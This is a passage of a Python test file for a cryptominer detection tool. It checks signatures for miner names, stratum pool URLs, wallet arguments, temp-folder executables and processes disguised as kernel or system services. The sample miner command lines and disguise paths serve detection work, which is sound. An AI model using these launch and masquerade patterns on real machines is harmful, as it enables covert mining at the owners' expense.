    assert m == Match("miner_env", "environment variable ARGS holds a pool URL")


def test_benign_env():
    env = {"PATH": "/usr/bin", "HOME": "/home/u", "DB_POOL_SIZE": "5", "PGPASSWORD": "x", "ORACLE_WALLET": "/x"}
    assert S.match_environ(env) == []


# ---------------------------------------------------------------------------------------------
# Disguise signals
# ---------------------------------------------------------------------------------------------


def test_exe_deleted():
    assert S.match_executable("nginx", "/usr/sbin/nginx", True) == [
        Match("exe_deleted", "executable deleted: /usr/sbin/nginx")
    ]
    assert S.match_executable("nginx", "/usr/sbin/nginx (deleted)", True)[0].signal == "exe_deleted"


@pytest.mark.parametrize(
    "exe",
    [
        "/tmp/x",
        "/tmp/.X11-unix/.x/systemd",
        "/var/tmp/a",
        "/dev/shm/.k",
        "/home/alice/Downloads/tool",
        "/root/Downloads/tool",
        "C:\\Users\\bob\\Downloads\\setup.exe",
        "C:\\Users\\bob\\AppData\\Local\\Temp\\setup.exe",
        "c:/users/bob/appdata/local/temp/x.exe",
        "C:\\Windows\\Temp\\x.exe",
        "C:\\Users\\Public\\x.exe",
    ],
)
def test_temp_dirs(exe):
    comm = re.split(r"[/\\]", exe)[-1]
    assert [m.signal for m in S.match_executable(comm, exe, False)] == ["exe_in_temp_dir"]


@pytest.mark.parametrize(
    "exe, argv, script",
    [
        ("/usr/bin/python3.11", ["python3", "/tmp/.x/miner.py", "--threads", "4"], "/tmp/.x/miner.py"),
        ("/usr/bin/python3.11", ["python3", "-u", "/dev/shm/m.py"], "/dev/shm/m.py"),
        ("/usr/bin/bash", ["bash", "/var/tmp/start.sh"], "/var/tmp/start.sh"),
        ("/usr/bin/python3.11", ["python3", "-c", "while True: pass"], ""),
        ("/usr/bin/python3.11", ["python3", "-m", "http.server"], ""),
        ("/usr/bin/perl", ["perl", "-e", "1 while 1"], ""),
        ("/usr/bin/gcc", ["gcc", "/tmp/x.c"], ""),  # not an interpreter: its operand is no script
    ],
)
def test_script_in_temp_dir(exe, argv, script):
    from minerwatch.detection.signatures import script_of

    assert script_of(exe, argv) == script
    signals = [m.signal for m in S.match_all(comm=argv[0], exe=exe, exe_deleted=False, argv=argv)]
    assert ("exe_in_temp_dir" in signals) == bool(script)


@pytest.mark.parametrize(
    "exe",
    ["/usr/bin/tmpwatch", "/opt/tmp-tools/x", "/home/alice/Documents/Downloads.py", "/srv/tmp/x",
     "C:\\Program Files\\App\\app.exe", "C:\\Users\\Publicity\\x.exe"],
)
def test_not_temp_dirs(exe):
    comm = re.split(r"[/\\]", exe)[-1]
    assert S.match_all(comm=comm, exe=exe, exe_deleted=False, argv=[exe]) == []


@pytest.mark.parametrize(
    "comm, exe",
    [
        ("kworker/0:1", "/opt/.x/a"),
        ("[kworker/0:0]", "/usr/local/bin/helper"),
        ("kthreadd", "/opt/x/y"),
        ("systemd-journal", "/usr/local/bin/xmrig"),
        ("sshd", "/var/lib/app/.cache/bin"),
        ("dbus-daemon", "/opt/.hidden/miner"),
    ],
)
def test_name_mismatch(comm, exe):
    assert [m.signal for m in S.match_executable(comm, exe, False)] == ["name_mismatch"]


@pytest.mark.parametrize(
    "comm, exe",
    [
        ("kworker/0:1", ""),  # a real kernel thread: no executable
        ("bash", "/usr/bin/bash"),
        ("gnome-terminal-", "/usr/libexec/gnome-terminal-server"),  # 15-char truncation
        ("containerd-shim", "/usr/bin/containerd-shim-runc-v2"),
        ("python3", "/usr/bin/python3.11"),
        ("gunicorn", "/usr/bin/python3.11"),  # setproctitle
        ("puma 6.4.0 (tcp", "/usr/bin/ruby3.1"),
        ("MainThread", "/usr/bin/node"),
        ("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"),
        ("sh", "/usr/bin/dash"),
        ("vi", "/usr/bin/vim.basic"),
        ("awk", "/usr/bin/mawk"),
        ("cc", "/usr/bin/x86_64-linux-gnu-gcc-12"),
        ("gcc", "/usr/bin/gcc-12"),
        ("editor", "/usr/bin/nano"),
        ("X", "/usr/lib/xorg/Xorg"),
        ("Web Content", "/usr/lib/firefox/firefox"),
        ("Isolated Web Co", "/usr/lib/firefox-esr/firefox-esr"),
        ("(sd-pam)", "/usr/lib/systemd/systemd"),
        ("(udev-worker)", "/usr/bin/udevadm"),
        ("systemd-udevd", "/usr/bin/udevadm"),
        ("runc:[2:INIT]", "/usr/bin/runc"),
        ("pipewire-pulse", "/usr/bin/pipewire"),
        ("modprobe", "/usr/bin/kmod"),
        ("iptables", "/usr/sbin/xtables-nft-multi"),
        ("sendmail", "/usr/sbin/exim4"),
        ("postgres", "/usr/lib/postgresql/16/bin/postgres"),
        ("ls", "/bin/busybox"),
        ("Game.exe", "/usr/bin/wine64-preloader"),
        (".firefox-wrapped", "/nix/store/abc-firefox/bin/.firefox-wrapped"),
        ("firefox", "/nix/store/abc-firefox/bin/.firefox-wrapped"),
        ("nc", "/usr/bin/nc.openbsd"),
        ("chrome", "/opt/google/chrome/chrome"),
        ("svchost.exe", "C:\\Windows\\System32\\svchost.exe"),
    ],
)
def test_no_name_mismatch(comm, exe):
    assert S.match_executable(comm, exe, False) == []


# ---------------------------------------------------------------------------------------------
# match_all
# ---------------------------------------------------------------------------------------------


def test_match_all_dedup_keeps_first_reason():
    s = Signatures(extra_names=["svc"])
    matches = s.match_all(
        comm="svc",
        exe="/dev/shm/svc",
        exe_deleted=True,
        argv=["/dev/shm/svc", "--donate-level", "1", "-o", "stratum+tcp://pool.example.net:3333", "-u", XMR],
        environ={"POOL_URL": "x", "DONATE_LEVEL": "1"},
    )
    assert [m.signal for m in matches] == [
        "miner_name", "miner_cmdline", "pool_url", "wallet_address", "miner_env", "exe_deleted", "exe_in_temp_dir",
    ]
    assert matches[-1].reason == "executable in a temp folder: /dev/shm/svc"
    assert all(m.signal in SIGNALS for m in matches)


def test_match_all_uses_argv0_for_names():
    assert _signals(S.match_all(comm="sh", exe="/usr/bin/dash", exe_deleted=False, argv=["xmrig"])) == {"miner_name"}


def test_matching_is_fast():
    commons = [
        ["/usr/lib/firefox/firefox", "-contentproc", "-childID", "3", "-isForBrowser", "-prefsLen", "31000",
         "-appDir", "/usr/lib/firefox/browser", "{4b5f-22}", "12345", "true", "tab"],
        ["/usr/bin/python3", "-m", "http.server", "8000"],
        ["postgres: walwriter"],
        ["/usr/sbin/sshd", "-D"],
    ]
    env = {f"VAR{i}": "value" * 5 for i in range(40)}
    n = 2000
    start = time.perf_counter()
    for i in range(n):
        argv = commons[i % len(commons)]
        S.match_all(comm="x", exe="/usr/bin/x", exe_deleted=False, argv=argv, environ=env)
    per_call = (time.perf_counter() - start) / n
    assert per_call < 0.001, per_call  # well under a millisecond per process


def test_signatures_read_the_shipped_pool_list_without_the_network_package():
    """data.py is the one place reading shipped files; matching processes needs no network code."""
    import subprocess
    import sys

    script = ("import sys, minerwatch.detection.signatures as s\n"
              "print(sorted(m for m in sys.modules if m.startswith('minerwatch.')))\n"
              "print(s.is_pool_host('xmr-eu1.nanopool.org'), s.is_pool_host('www.binance.com'))\n")
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60, check=True)
    modules, verdicts = out.stdout.splitlines()
    assert "minerwatch.data" in modules and "minerwatch.network" not in modules
    assert "minerwatch.network.pools" not in modules and "minerwatch.pool_intel" not in modules
    assert verdicts == "True False"
